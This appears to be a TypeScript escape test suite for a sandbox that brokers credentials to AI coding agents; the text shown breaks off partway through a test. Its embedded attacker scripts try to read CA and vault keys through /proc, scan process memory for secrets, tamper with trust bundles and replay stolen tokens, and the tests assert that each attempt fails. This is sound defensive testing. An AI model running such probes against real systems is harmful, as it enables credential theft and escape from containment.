/**
 * Escape suite, CREDENTIALS section of SECURITY.md: the credential broker. A secret never enters a
 * cloister; the cloister holds a per-cloister placeholder of the same shape, and the guardian swaps
 * in the real value on the way out, over TLS it terminates with its own CA, only for the hosts the
 * secret's rule names. The attacker (anything running in the cloister) tries to:
 *
 * - read the broker's CA key, its placeholder key or the vault, at their host paths, through /proc,
 *   or by searching the whole visible filesystem by name and by content;
 * - tamper with the trust bundle (so as to trust a CA of its own), or find a private key in it;
 * - find the real value in its environment, in any file it can read, or in the memory of any of its
 *   processes, also right after an injected request went out (the scan finds the placeholder in
 *   those same places, so it demonstrably works);
 * - get an agent's stored credential (`cloister setup AGENT`) rather than its placeholder;
 * - use one cloister's placeholder in another, also after the first one stopped;
 * - have the real value sent where it does not belong: plain HTTP, an upstream whose certificate
 *   does not verify, another host, across a redirect;
 * - have an origin echo the injected value back (body, header, compressed body).
 *
 * The real values are never given to a cloister, not even to look for them: scans inside get only
 * (anchor, length, SHA-256) triples and confirm a candidate by its hash. The anchor is a public
 * prefix (`ghp_`, `sk-ant-api03-`) that the placeholder shares, except for one 20-character tail
 * whose first 4 characters serve as its anchor.
 *
 * Oracles: the real values (registered as canaries of the instance) appear in no command output,
 * guardian log, listing, audit record, file of the instance or the project; upstreams record what
 * reached them; markers (/tmp/ESCAPED-credentials-*) never appear on the host; the host's sensitive
 * files, the broker's keys, the vault and the host's system trust bundle are unchanged; a second
 * cloister still runs.
 */
import assert from "node:assert/strict";
import { createHash, randomBytes } from "node:crypto";
import { chmodSync, chownSync, existsSync, mkdirSync, readFileSync, rmSync, statSync, writeFileSync } from "node:fs";
import type { IncomingMessage, ServerResponse } from "node:http";
import { MAX_EXCHANGES } from "../../src/guardian/proxy/context.js";
import { dirname, join } from "node:path";
import { after, before, describe, it } from "node:test";
import { gzipSync } from "node:zlib";
import { createInstance, trustUpstreamCa, waitUntil, type CliResult, type TestInstance } from "../helpers/cloister.js";
import { asUserSkipReason, createUserInstance, type UserInstance } from "../helpers/as-user.js";
import {
  assertLive,
  assertNoCanaryAnywhere,
  assertRefused,
  diffSnapshots,
  hostSensitiveSnapshot,
  marker,
  mergeSnapshots,
  NO_PYTHON,
  parseSteps,
  presentMarkers,
  PY_PRELUDE,
  PYTHON,
  removeMarkers,
  snapshotTree,
  stepsWithPrefix,
  type Snapshot,
} from "../helpers/oracles.js";
import { createTestCa, startHttpsUpstream, startHttpUpstream, type HttpsUpstream, type TestCa, type Upstream } from "../fixtures/upstreams.js";

// ---------------------------------------------------------------------------------------------
// The secrets

const ALNUM = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789";
const BASE64URL = `${ALNUM}-_`;

function randomText(length: number, alphabet: string): string {
  return [...randomBytes(length)].map((b) => alphabet[b % alphabet.length]).join("");
}

/** A GitHub-token-shaped secret, brokered for api.test (and the trap hosts) with `secret set --host`. */
const SECRET = `ghp_${randomText(36, ALNUM)}`;
/** Brokered for the echoing origin only. */
const ECHO_SECRET = `ghp_${randomText(36, ALNUM)}`;
/** Agent credentials, stored with `cloister setup AGENT --api-key`: the shapes of real keys. */
const CLAUDE_KEY = `sk-ant-api03-${randomText(93, BASE64URL)}-${randomText(6, ALNUM)}AA`;
const CODEX_KEY = `sk-proj-${randomText(156, BASE64URL)}`;
const GEMINI_KEY = `AIza${randomText(35, BASE64URL)}`;

/** What a scan inside is given instead of a value: a public anchor, the length and the hash. */
interface Needle {
  label: string;
  anchor: string;
  length: number;
  sha256: string;
}

function needle(label: string, value: string, anchor: string): Needle {
  assert.ok(value.startsWith(anchor));
  return { label, anchor, length: value.length, sha256: createHash("sha256").update(value).digest("hex") };
}

// ---------------------------------------------------------------------------------------------
// The scanner

/**
 * Python: `scan(needles, roots)` looks for each needle (bytes starting with its anchor whose hash
 * matches) in every regular file under `roots`, in /proc/PID/environ and cmdline of every visible
 * process, and in every readable mapping of every visible process's memory (/proc/PID/mem). Prints
 * `SCAN {json}`: hits (label -> where), files read, processes read (pid -> [comm, bytes]), and what
 * could not be read ("pid comm/part" -> errno name). `env_needle(label, var, anchor)` and
 * `json_needle(label, file, key, anchor)` make a needle of a value the cloister has (a placeholder):
 * the same mechanism must find it.
 */
const SCANNER_PY = String.raw`
import errno, hashlib, json, os, stat

def env_needle(label, var, anchor, tail=None):
    value = os.environ.get(var, "")
    if tail:
        value = value[-tail:]
        anchor = value[:4]
    return {"label": label, "anchor": anchor, "length": len(value), "sha256": hashlib.sha256(value.encode()).hexdigest()}

def json_needle(label, path, key, anchor):
    with open(path) as f:
        value = json.load(f).get(key, "")
    return {"label": label, "anchor": anchor, "length": len(value), "sha256": hashlib.sha256(value.encode()).hexdigest()}

def _hits(data, needles):
    found = []
    for n in needles:
        a = n["anchor"].encode()
        if not a:
            continue
        i = data.find(a)
        while i >= 0:
            if hashlib.sha256(data[i:i + n["length"]]).hexdigest() == n["sha256"]:
                found.append(n["label"])
                break
            i = data.find(a, i + 1)
    return found

def _err(e):
    return errno.errorcode.get(e.errno, type(e).__name__) if isinstance(e, OSError) and e.errno else type(e).__name__

def scan(needles, roots, skip=("/proc", "/sys")):
    report = {"hits": {}, "files": 0, "procs": {}, "unreadable": {}}
    def hit(label, where):
        report["hits"].setdefault(label, [])
        if where not in report["hits"][label]:
            report["hits"][label].append(where)
    for root in roots:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in skip]
            for name in filenames:
                path = os.path.join(dirpath, name)
                try:
                    st = os.lstat(path)
                    if not stat.S_ISREG(st.st_mode) or st.st_size > (64 << 20):
                        continue
                    with open(path, "rb") as f:
                        data = f.read()
                except OSError:
                    continue
                report["files"] += 1
                for label in _hits(data, needles):
                    hit(label, "file:" + path)
    for pid in sorted((p for p in os.listdir("/proc") if p.isdigit()), key=int):
        try:
            with open("/proc/%s/comm" % pid) as f:
                comm = f.read().strip()
        except OSError:
            continue
        for part in ("environ", "cmdline"):
            try:
                with open("/proc/%s/%s" % (pid, part), "rb") as f:
                    data = f.read()
            except OSError as e:
                report["unreadable"]["%s %s/%s" % (pid, comm, part)] = _err(e)
                continue
            for label in _hits(data, needles):
                hit(label, "%s:%s" % (part, comm))
        try:
            with open("/proc/%s/maps" % pid) as f:
                maps = f.read().splitlines()
            mem = open("/proc/%s/mem" % pid, "rb", 0)
        except OSError as e:
            report["unreadable"]["%s %s/mem" % (pid, comm)] = _err(e)
            continue
        total = 0
        with mem:
            for line in maps:
                fields = line.split()
                if "r" not in fields[1]:
                    continue
                start, end = (int(x, 16) for x in fields[0].split("-"))
                if end - start > (512 << 20):
                    continue
                try:
                    mem.seek(start)
                    data = mem.read(end - start)
                except (OSError, OverflowError, ValueError):
                    continue
                total += len(data)
                for label in _hits(data, needles):
                    hit(label, "mem:%s" % comm)
        report["procs"][pid] = [comm, total]
    print("SCAN " + json.dumps(report), flush=True)
`;

interface ScanReport {
  hits: Record<string, string[]>;
  files: number;
  procs: Record<string, [comm: string, bytes: number]>;
  unreadable: Record<string, string>;
}

function scanReport(r: CliResult): ScanReport {
  const line = r.stdout.split("\n").find((l) => l.startsWith("SCAN "));
  assert.ok(line, `the scan did not finish (exit ${r.code}): ${r.stdout}${r.stderr}`);
  return JSON.parse(line.slice("SCAN ".length)) as ScanReport;
}

/** Comms of the processes whose memory the scan read. */
function scannedComms(report: ScanReport): string[] {
  return Object.values(report.procs)
    .filter(([, bytes]) => bytes > 0)
    .map(([comm]) => comm);
}

function python(body: string): string {
  return `${PYTHON} - <<'PYEOF'\n${PY_PRELUDE}\n${body}\nPYEOF\n`;
}

// ---------------------------------------------------------------------------------------------
// The echoing origin

/** Answers with the Authorization header it received: in the body, in a response header, or in a gzipped body. */
function echoHandler(req: IncomingMessage, res: ServerResponse): void {
  const auth = String(req.headers.authorization ?? "none");
  const body = `you sent: ${auth}\n`;
  if (req.url === "/echo-header") {
    res.writeHead(200, { "content-type": "text/plain", "x-echo": auth, "content-length": 3 }).end("ok\n");
  } else if (req.url === "/echo-gzip") {
    const zipped = gzipSync(body);
    res.writeHead(200, { "content-type": "text/plain", "content-encoding": "gzip", "content-length": zipped.length }).end(zipped);
  } else {
    res.writeHead(200, { "content-type": "text/plain", "content-length": Buffer.byteLength(body) }).end(body);
  }
}

// ---------------------------------------------------------------------------------------------

describe("escape/credentials", { skip: NO_PYTHON }, () => {
  let t: TestInstance;
  let ca: TestCa;
  let rogueCa: TestCa;
  let api: HttpsUpstream;
  let other: HttpsUpstream;
  let echo: HttpsUpstream;
  let rogue: HttpsUpstream;
  let misnamed: HttpsUpstream;
  let plain: Upstream;
  let fakeBin: string;
  let hostBefore: Snapshot;
  const markers: string[] = [];
  /** Responses of api.test held open (its /hang paths), ended by the test that made them. */
  const hanging: ServerResponse[] = [];
  /** stdout and stderr of every command the tests ran: no real value may be in them. */
  const outputs: string[] = [];

  const broker = (name: string) => join(t.home, "state", "broker", name);
  /** Where the broker's and the vault's secrets are on the host. */
  const secretFiles = () => ({
    "ca-key": broker("ca-key.pem"),
    "placeholder-key": broker("placeholder.key"),
    "vault-key": join(t.home, "state", "vault.key"),
    vault: join(t.home, "data", "vault.json"),
  });
  /** What must not change on the host: the sensitive files, the broker's keys, the vault, the host's trust store. */
  const hostState = () =>
    mergeSnapshots(
      hostSensitiveSnapshot(t),
      snapshotTree(join(t.home, "state", "broker"), "broker"),
      ...Object.entries(secretFiles()).map(([label, file]) => snapshotTree(file, label)),
      snapshotTree("/etc/ssl/certs/ca-certificates.crt", "system-trust"),
    );

  const cli = async (args: string[], options?: { input?: string; timeoutMs?: number }): Promise<CliResult> => {
    const r = await t.cli(args, options);
    outputs.push(r.stdout, r.stderr);
    if (process.env.ESCAPE_DEBUG) process.stderr.write(`--- cloister ${args.slice(0, 2).join(" ")} (exit ${r.code})\n${r.stdout}${r.stderr}`);
    return r;
  };

  /** Names, addresses and rules of every upstream; TOKEN is the placeholder of SECRET. */
  const session = (): string[] => {
    const upstreams: [string, Upstream][] = [
      ["api.test", api],
      ["other.test", other],
      ["echo.test", echo],
      ["rogue.test", rogue],
      ["misnamed.test", misnamed],
      ["plain.test", plain],
    ];
    return [...upstreams.flatMap(([name, u]) => ["--resolve", `${name}=127.0.0.1`, "--allow-private", `${name}:${u.port}`]), "--secret", "TOKEN=gh", "--secret", "ECHO_TOKEN=echoed"];
  };
  const attack = (script: string) => cli(["run", ...session(), "--", "sh", "-c", script]);

  const audit = () =>
    readFileSync(join(t.home, "state", "audit", "audit.jsonl"), "utf8")
      .trim()
      .split("\n")
      .map((line) => JSON.parse(line) as Record<string, unknown>);

  /** Every request an upstream saw, as text (headers and body), to look for a value in. */
  const seenBy = (u: Upstream) => u.requests.map((req) => `${req.method} ${req.url} ${JSON.stringify(req.headers)} ${req.body}`).join("\n") + u.received.toString("latin1");

  before(async () => {
    t = createInstance("cred");
    ca = createTestCa();
    rogueCa = createTestCa();
    [api, other, echo, plain] = await Promise.all([
      startHttpsUpstream(ca, ["api.test"], {
        handler: (req, res) => {
          if (req.url?.startsWith("/hang")) return void hanging.push(res);
          if (req.url === "/redirect") return void res.writeHead(302, { location: `https://other.test:${other.port}/landed`, "content-length": 0 }).end();
          res.writeHead(200, { "content-type": "text/plain", "content-length": 20 }).end("hello from upstream\n");
        },
      }),
      startHttpsUpstream(ca, ["other.test"]),
      startHttpsUpstream(ca, ["echo.test"], { handler: echoHandler }),
      startHttpUpstream(),
    ]);
    // Not to be trusted: a certificate from a CA the guardian does not know, and one of the trusted
    // CA for another name.
    [rogue, misnamed] = await Promise.all([startHttpsUpstream(rogueCa, ["rogue.test"]), startHttpsUpstream(ca, ["someone-else.test"])]);

    trustUpstreamCa(t.home, ca.certFile);

    // gh belongs to api.test, and (traps) to a plain HTTP server and two upstreams whose TLS must not verify.
    const hosts = Object.entries({ "api.test": api, "plain.test": plain, "rogue.test": rogue, "misnamed.test": misnamed }).flatMap(([name, u]) => ["--host", `${name}:${u.port}`]);
    for (const [name, value, args] of [
      ["gh", SECRET, hosts],
      ["echoed", ECHO_SECRET, ["--host", `echo.test:${echo.port}`]],
    ] as const) {
      const set = await cli(["secret", "set", name, ...args, "--header", "Authorization: Bearer {}"], { input: value });
      assert.equal(set.code, 0, set.stderr);
    }
    for (const [agent, key] of [
      ["claude", CLAUDE_KEY],
      ["codex", CODEX_KEY],
      ["gemini", GEMINI_KEY],
    ] as const) {
      const stored = await cli(["setup", agent, "--api-key"], { input: key });
      assert.equal(stored.code, 0, stored.stderr);
    }
    // The real values are canaries: in no output, log, audit record, project or instance file.
    // (ECHO_SECRET is not: the echo case checks it on its own, so one finding stays in one case.)
    Object.assign(t.canaries, { secret: SECRET, claudeKey: CLAUDE_KEY, codexKey: CODEX_KEY, geminiKey: GEMINI_KEY });

    // Fake agents: each reports the credential it was handed (env or file), then scans for the real one.
    fakeBin = join(dirname(t.home), "fakebin");
    const fakeAgent = (name: string, report: string, needles: Needle[], envNeedles: string): void => {
      const file = join(fakeBin, name);
      mkdirSync(fakeBin, { recursive: true });
      writeFileSync(file, `#!/bin/sh\n${report}\nexec ${PYTHON} - <<'PYEOF'\n${SCANNER_PY}\nscan(${JSON.stringify(needles)} + ${envNeedles}, [os.environ["HOME"], "/work", "/run", "/tmp"])\nPYEOF\n`);
      chmodSync(file, 0o755);
    };
    fakeAgent(
      "claude",
      'echo "KEY:$ANTHROPIC_API_KEY"; echo "OAUTH:${CLAUDE_CODE_OAUTH_TOKEN:-none}"',
      [needle("real", CLAUDE_KEY, "sk-ant-api03-"), needle("real-tail", CLAUDE_KEY.slice(-20), CLAUDE_KEY.slice(-20, -16))],
      `[env_needle("placeholder", "ANTHROPIC_API_KEY", "sk-ant-api03-"), env_needle("placeholder-tail", "ANTHROPIC_API_KEY", "", tail=20)]`,
    );
    fakeAgent(
      "codex",
      'echo "ENVKEY:${OPENAI_API_KEY:-none}"; echo "AUTH:$(tr -d \'\\n \' < "$HOME/.codex/auth.json")"',
      [needle("real", CODEX_KEY, "sk-proj-")],
      `[json_needle("placeholder", os.path.join(os.environ["HOME"], ".codex/auth.json"), "OPENAI_API_KEY", "sk-proj-")]`,
    );
    fakeAgent("gemini", 'echo "KEY:$GEMINI_API_KEY"', [needle("real", GEMINI_KEY, "AIza")], `[env_needle("placeholder", "GEMINI_API_KEY", "AIza")]`);
    t.env.PATH = `${fakeBin}:${t.env.PATH ?? ""}`;

    hostBefore = hostState();
  });

  after(async () => {
    removeMarkers(markers);
    if (process.env.KEEP) console.log(t.home);
    else await t.teardown();
    await Promise.all([api, other, echo, rogue, misnamed, plain].map((u) => u?.close()));
    for (const c of [ca, rogueCa]) if (c) rmSync(c.dir, { recursive: true, force: true });
  });

  it("the broker's CA key, its placeholder key and the vault are nowhere inside: not at their host paths, not through /proc, not by name or content anywhere", async () => {
    const files = secretFiles();
    for (const file of Object.values(files)) assert.ok(existsSync(file), `the test expects ${file} on the host`);
    const sizes = Object.fromEntries(Object.entries(files).map(([label, file]) => [label, readFileSync(file).length]));
    const hashes = Object.fromEntries(Object.entries(files).map(([label, file]) => [createHash("sha256").update(readFileSync(file)).digest("hex"), label]));
    const guardianPid = Number(readFileSync(join(t.home, "run", "guardian.pid"), "utf8").trim());
    const m = marker("credentials-ca-key");
    markers.push(m);
    const r = await attack(
      python(String.raw`
import hashlib, json
FILES = ${JSON.stringify(files)}
SIZES = set(${JSON.stringify(Object.values(sizes))})
HASHES = ${JSON.stringify(hashes)}
NAMES = {"ca-key.pem", "placeholder.key", "vault.key", "vault.json"}
def read(p):
    with open(p, "rb") as f:
        return len(f.read())
pids = ["self"] + [p for p in os.listdir("/proc") if p.isdigit()]
for label, path in FILES.items():
    step("read-" + label, lambda: read(path))
    step("read-dir-" + label, lambda: os.listdir(os.path.dirname(path)))
    for pid in pids:
        step("proc-root-%s-%s" % (pid, label), lambda: read("/proc/%s/root%s" % (pid, path)))
        step("proc-cwd-%s-%s" % (pid, label), lambda: read("/proc/%s/cwd/../../../../../../..%s" % (pid, path)))
# Copy the CA key out to a host path (the marker): there is nothing to copy, and the marker is the
# cloister's own /tmp.
def steal():
    with open(FILES["ca-key"], "rb") as src, open(${JSON.stringify(m)}, "wb") as dst:
        dst.write(src.read())
step("copy-ca-key", steal)
# The guardian's own /proc entry (its environment, memory): another pid namespace.
def guardian():
    with open("/proc/${guardianPid}/cmdline", "rb") as f:
        cmd = f.read()
    if b"guardian" not in cmd:
        raise OSError(errno.ESRCH, "another process")
    return cmd.replace(b"\0", b" ").decode()
step("guardian-proc", guardian)
# Everything visible, by name and by content.
count = 0
for dirpath, dirnames, filenames in os.walk("/"):
    dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in ("/proc", "/sys")]
    for name in filenames:
        path = os.path.join(dirpath, name)
        count += 1
        if name in NAMES:
            print("STEP found-name-%s OK" % path, flush=True)
        try:
            st = os.lstat(path)
            if not (st.st_mode & 0o170000 == 0o100000) or st.st_size not in SIZES:
                continue
            with open(path, "rb") as f:
                digest = hashlib.sha256(f.read()).hexdigest()
        except OSError:
            continue
        if digest in HASHES:
            print("STEP found-content-%s OK %s" % (HASHES[digest], path), flush=True)
print("STEP walked %d" % count, flush=True)
`),
    );
    const steps = parseSteps(r.stdout);
    const probes = [...stepsWithPrefix(steps, "read-"), ...stepsWithPrefix(steps, "proc-"), "copy-ca-key", "guardian-proc"];
    assert.ok(probes.length >= 4 * 3 + 2, `the attack did not run: ${r.stdout}${r.stderr}`);
    assertRefused(steps, probes, ["ENOENT", "EACCES", "ENOTDIR", "EPERM", "ESRCH"], r.stderr);
    assert.deepEqual([...stepsWithPrefix(steps, "found-")].map((s) => `${s} ${steps.get(s)}`), []);
    assert.ok(Number(steps.get("walked")) > 1000, `the walk of / saw only ${steps.get("walked")} files`);
    assert.deepEqual(presentMarkers(markers), []);
  });

  it("the trust files are read-only inside (every path), hold no private key, and are the guardian's: the bundle and node's extra certificates, each with the cloister CA", async () => {
    const m = marker("credentials-bundle");
    markers.push(m);
    const r = await attack(
      python(String.raw`
import hashlib
EVIL = ${JSON.stringify(m)}
with open(EVIL, "w") as f:
    f.write("-----BEGIN CERTIFICATE-----\nevil\n-----END CERTIFICATE-----\n")
def write(p, mode):
    with open(p, mode) as f:
        f.write(b"-----BEGIN CERTIFICATE-----\nevil\n-----END CERTIFICATE-----\n")
for label, p in (("run", "/run/cloister/ca-bundle.pem"), ("etc", "/etc/ssl/certs/ca-certificates.crt"), ("node", "/run/cloister/node-extra-ca.pem")):
    step("write-" + label, lambda: write(p, "r+b"))
    step("append-" + label, lambda: write(p, "ab"))
    step("truncate-" + label, lambda: os.truncate(p, 0))
    step("chmod-" + label, lambda: os.chmod(p, 0o666))
    step("utime-" + label, lambda: os.utime(p, (0, 0)))
    step("setxattr-" + label, lambda: os.setxattr(p, "user.evil", b"1"))
    step("unlink-" + label, lambda: os.unlink(p))
    step("rename-away-" + label, lambda: os.rename(p, p + ".old"))
    step("rename-over-" + label, lambda: os.rename(EVIL, p))
    step("symlink-over-" + label, lambda: (os.symlink(EVIL, p + ".new"), os.rename(p + ".new", p)))
    with open(p, "rb") as f:
        data = f.read()
    print("STEP private-%s %d" % (label, data.count(b"PRIVATE KEY")), flush=True)
    print("STEP sha-%s %s" % (label, hashlib.sha256(data).hexdigest()), flush=True)
step("new-file-etc-certs", lambda: write("/etc/ssl/certs/evil.pem", "wb"))
print("STEP env-node %s" % os.environ.get("NODE_EXTRA_CA_CERTS"), flush=True)
print("STEP env-ssl %s" % os.environ.get("SSL_CERT_FILE"), flush=True)
`),
    );
    const steps = parseSteps(r.stdout);
    const tampering = ["run", "etc", "node"].flatMap((label) => ["write", "append", "truncate", "chmod", "utime", "setxattr", "unlink", "rename-away", "rename-over", "symlink-over"].map((s) => `${s}-${label}`));
    assertRefused(steps, [...tampering, "new-file-etc-certs"], ["EROFS", "EBUSY", "EACCES", "EPERM", "EXDEV", "ENOTSUP", "EOPNOTSUPP"], r.stdout + r.stderr);
    const bundle = readFileSync(broker("trust-bundle.pem"));
    const bundleSha = createHash("sha256").update(bundle).digest("hex");
    for (const label of ["run", "etc"]) {
      assert.equal(steps.get(`private-${label}`), "0", `a private key in the bundle at ${label}`);
      assert.equal(steps.get(`sha-${label}`), bundleSha, `the bundle at ${label} is not the guardian's trust bundle`);
    }
    assert.equal(steps.get("env-node"), "/run/cloister/node-extra-ca.pem");
    assert.equal(steps.get("env-ssl"), "/run/cloister/ca-bundle.pem");
    const nodeExtra = readFileSync(broker("node-extra-ca.pem"));
    assert.equal(steps.get("private-node"), "0", "a private key in node's extra certificates");
    assert.equal(steps.get("sha-node"), createHash("sha256").update(nodeExtra).digest("hex"), "NODE_EXTRA_CA_CERTS is not the guardian's file");
    for (const file of [bundle, nodeExtra]) {
      assert.ok(file.toString("latin1").includes(readFileSync(broker("ca.pem"), "latin1").trim()), "a trust file lacks the cloister CA");
      assert.ok(!file.toString("latin1").includes("PRIVATE KEY"));
    }
    assert.deepEqual(presentMarkers(markers), []);
  });

  it("env, readable files and the memory of every process inside hold only the placeholder, also after an injected request", async () => {
    const before = api.requests.length;
    const r = await attack(
      `echo "$TOKEN" > /tmp/placeholder-copy; echo "$TOKEN" > "$HOME/placeholder-copy"\n` +
        python(String.raw`
import ssl, subprocess, urllib.request
${SCANNER_PY}
# A process that only holds the placeholder in its environment, like an agent waiting.
sleeper = subprocess.Popen(["sleep", "120"])
try:
    # An injected request made by this very process: its buffers, TLS state and the response stay in its memory.
    req = urllib.request.Request("https://api.test:${api.port}/from-scanner", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})
    ctx = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
    print("STEP request " + urllib.request.urlopen(req, context=ctx, timeout=20).read().decode().strip(), flush=True)
    scan([${JSON.stringify(needle("real", SECRET, "ghp_"))}, env_needle("placeholder", "TOKEN", "ghp_")], [os.environ["HOME"], "/work", "/run", "/tmp", "/var/tmp", "/dev/shm", "/etc"])
finally:
    sleeper.kill()
`),
    );
    assert.equal(r.code, 0, r.stderr);
    assert.equal(parseSteps(r.stdout).get("request"), "hello from upstream", r.stdout + r.stderr);
    const injected = api.requests.slice(before).find((req) => req.url === "/from-scanner");
    assert.equal(injected?.headers.authorization, `Bearer ${SECRET}`, "the injected request did not reach the upstream with the real value");

    const report = scanReport(r);
    assert.deepEqual(report.hits.real ?? [], [], "the real value is inside the cloister");
    // The scan works: it finds the placeholder where it was put.
    const found = report.hits.placeholder ?? [];
    for (const where of ["environ:sleep", "mem:sleep", "mem:python3", "file:/tmp/placeholder-copy", "environ:sh", "mem:sh"]) assert.ok(found.includes(where), `the scan missed the placeholder in ${where}: ${JSON.stringify(report)}`);
    assert.ok(found.some((w) => w.startsWith("file:/home/") && w.endsWith("/placeholder-copy")), `the scan missed the placeholder in HOME: ${JSON.stringify(found)}`);
    assert.ok(report.files > 100, `the scan read only ${report.files} files`);
    const comms = scannedComms(report);
    for (const comm of ["sleep", "python3", "sh"]) assert.ok(comms.includes(comm), `the memory of ${comm} was not scanned: ${JSON.stringify(report.procs)}`);
    // What it could not read, the attacker cannot either: only the cloister's init processes (not dumpable).
    const unreadable = Object.entries(report.unreadable).filter(([what, error]) => !/^\d+ init\//.test(what) && !["ESRCH", "ENOENT"].includes(error));
    assert.deepEqual(unreadable, [], "a process other than the cloister's init could not be read");
    assert.ok(!r.stdout.includes(SECRET) && !r.stderr.includes(SECRET));
  });

  it("an agent's stored credential: claude gets a placeholder of the key's shape; neither its env nor its HOME nor any process holds the key", async () => {
    const r = await cli(["run", "--agent", "claude", "--", "-p", "hello"]);
    assert.equal(r.code, 0, r.stderr);
    const key = /^KEY:(.*)$/m.exec(r.stdout)?.[1] ?? "";
    assert.ok(key.startsWith("sk-ant-api03-"), `not a placeholder of the key's shape: ${key}`);
    assert.equal(key.length, CLAUDE_KEY.length);
    assert.notEqual(key, CLAUDE_KEY);
    assert.match(r.stdout, /^OAUTH:none$/m);
    const report = scanReport(r);
    assert.deepEqual(report.hits.real ?? [], [], "the real key is inside the cloister");
    assert.deepEqual(report.hits["real-tail"] ?? [], [], "the real key's tail (what Claude Code remembers as approved) is inside the cloister");
    const found = [...(report.hits.placeholder ?? []), ...(report.hits["placeholder-tail"] ?? [])];
    assert.ok(found.some((w) => w.startsWith("environ:")), `the scan missed the placeholder in the agent's env: ${JSON.stringify(report)}`);
    assert.ok(found.some((w) => /^file:\/home\/[^/]+\/\.claude\.json$/.test(w)), `the scan missed the placeholder's tail in ~/.claude.json: ${JSON.stringify(found)}`);
    assert.ok(!r.stdout.includes(CLAUDE_KEY) && !r.stderr.includes(CLAUDE_KEY));
    await waitUntil("the delivery is audited", () => audit().some((e) => e.type === "secret.deliver" && e.agent === "claude" && e.placeholder === true));
    // …naming the cloister it went to, as its cloister.start record does.
    const started = new Set(audit().filter((e) => e.type === "cloister.start").map((e) => `${String(e.cloister)}/${String(e.project)}`));
    const delivered = audit().filter((e) => e.type === "secret.deliver").map((e) => `${String(e.cloister)}/${String(e.project)}`);
    assert.ok(delivered.length > 0 && delivered.every((d) => started.has(d)), `a delivery names no started cloister: ${JSON.stringify(delivered)}`);
  });

  it("codex gets a placeholder in ~/.codex/auth.json and gemini one in GEMINI_API_KEY, never the stored keys", async () => {
    const codex = await cli(["run", "--agent", "codex", "--", "exec", "hello"]);
    assert.equal(codex.code, 0, codex.stderr);
    assert.match(codex.stdout, /^ENVKEY:none$/m);
    const auth = JSON.parse(/^AUTH:(.*)$/m.exec(codex.stdout)?.[1] ?? "{}") as { OPENAI_API_KEY?: string };
    const codexKey = auth.OPENAI_API_KEY ?? "";
    assert.ok(codexKey.startsWith("sk-proj-") && codexKey.length === CODEX_KEY.length && codexKey !== CODEX_KEY, `not a placeholder of the key's shape: ${codexKey}`);
    const codexReport = scanReport(codex);
    assert.deepEqual(codexReport.hits.real ?? [], []);
    assert.ok((codexReport.hits.placeholder ?? []).some((w) => /^file:\/home\/[^/]+\/\.codex\/auth\.json$/.test(w)), JSON.stringify(codexReport));

    const gemini = await cli(["run", "--agent", "gemini", "--", "-p", "hello"]);
    assert.equal(gemini.code, 0, gemini.stderr);
    const geminiKey = /^KEY:(.*)$/m.exec(gemini.stdout)?.[1] ?? "";
    assert.ok(geminiKey.startsWith("AIza") && geminiKey.length === GEMINI_KEY.length && geminiKey !== GEMINI_KEY, `not a placeholder of the key's shape: ${geminiKey}`);
    const report = scanReport(gemini);
    assert.deepEqual(report.hits.real ?? [], []);
    assert.ok((report.hits.placeholder ?? []).some((w) => w.startsWith("environ:")), JSON.stringify(report));
    for (const r of [codex, gemini]) assert.ok(![CODEX_KEY, GEMINI_KEY].some((v) => r.stdout.includes(v) || r.stderr.includes(v)));
  });

  it("a placeholder of one cloister is useless in another, while the first runs and after it stopped", async () => {
    const started = await cli(["start", "-d", "--name", "cred-a"]);
    assert.equal(started.code, 0, started.stderr);
    let stolen = "";
    try {
      const a = await cli(["exec", "cred-a", ...session().slice(-4), "--", "sh", "-c", 'echo "TOKEN:$TOKEN"']);
      assert.equal(a.code, 0, a.stderr);
      stolen = /^TOKEN:(\S+)$/m.exec(a.stdout)?.[1] ?? "";
      assert.ok(stolen.startsWith("ghp_") && stolen.length === SECRET.length && stolen !== SECRET, stolen);
      const again = await cli(["exec", "cred-a", ...session().slice(-4), "--", "sh", "-c", 'echo "TOKEN:$TOKEN"']);
      assert.match(again.stdout, new RegExp(`^TOKEN:${stolen}$`, "m"), "a cloister's placeholder changed between two commands");

      const curl = (path: string, token: string) => `curl -sk -m 10 -o /dev/null -w '${path} %{http_code}\\n' -H "Authorization: Bearer ${token}" https://api.test:${api.port}${path}`;
      const b = await attack([`echo "TOKEN:$TOKEN"`, curl("/b-own", "$TOKEN"), curl("/b-stolen", stolen), curl("/b-stolen-x", `${stolen} x`)].join("; "));
      assert.equal(b.code, 0, b.stderr);
      const own = /^TOKEN:(\S+)$/m.exec(b.stdout)?.[1] ?? "";
      assert.ok(own !== stolen && own.length === SECRET.length, "two cloisters got the same placeholder");
      assert.match(b.stdout, /^\/b-own 200$/m);
    } finally {
      const stopped = await cli(["stop", "cred-a"]);
      assert.equal(stopped.code, 0, stopped.stderr);
    }
    const c = await attack(`curl -sk -m 10 -o /dev/null -w 'after %{http_code}\\n' -H "Authorization: Bearer ${stolen}" https://api.test:${api.port}/c-stolen-after-stop`);
    assert.equal(c.code, 0, c.stderr);

    const byPath = (path: string) => api.requests.filter((req) => req.url === path);
    assert.equal(byPath("/b-own")[0]?.headers.authorization, `Bearer ${SECRET}`, "the positive control: a cloister's own placeholder is swapped");
    for (const path of ["/b-stolen", "/b-stolen-x", "/c-stolen-after-stop"]) {
      for (const req of byPath(path)) {
        assert.ok(!JSON.stringify(req.headers).includes(SECRET), `${path}: the upstream got the real value for another cloister's placeholder`);
        // The guardian strips a value of the injection header that is not this cloister's placeholder.
        assert.equal(req.headers.authorization, undefined, `${path}: ${String(req.headers.authorization)}`);
      }
    }
    await waitUntil("the strip is audited", () => audit().some((e) => e.type === "credential.strip" && e.host === "api.test"));
  });

  it("the placeholder where the secret does not go gains nothing: plain HTTP, an unverified upstream, another host, a redirect, another header, the URL, another secret's host", async () => {
    const curl = (label: string, url: string, extra = "") => `curl -sk -m 10 ${extra} -o /tmp/${label}.out -w '${label} %{http_code}\\n' -H "Authorization: Bearer $TOKEN" ${url}; cat /tmp/${label}.out; echo`;
    const r = await attack(
      [
        curl("plain", `http://plain.test:${plain.port}/plain`),
        curl("plain-url", `"http://plain.test:${plain.port}/?key=$TOKEN"`),
        curl("rogue", `https://rogue.test:${rogue.port}/rogue`),
        curl("misnamed", `https://misnamed.test:${misnamed.port}/misnamed`),
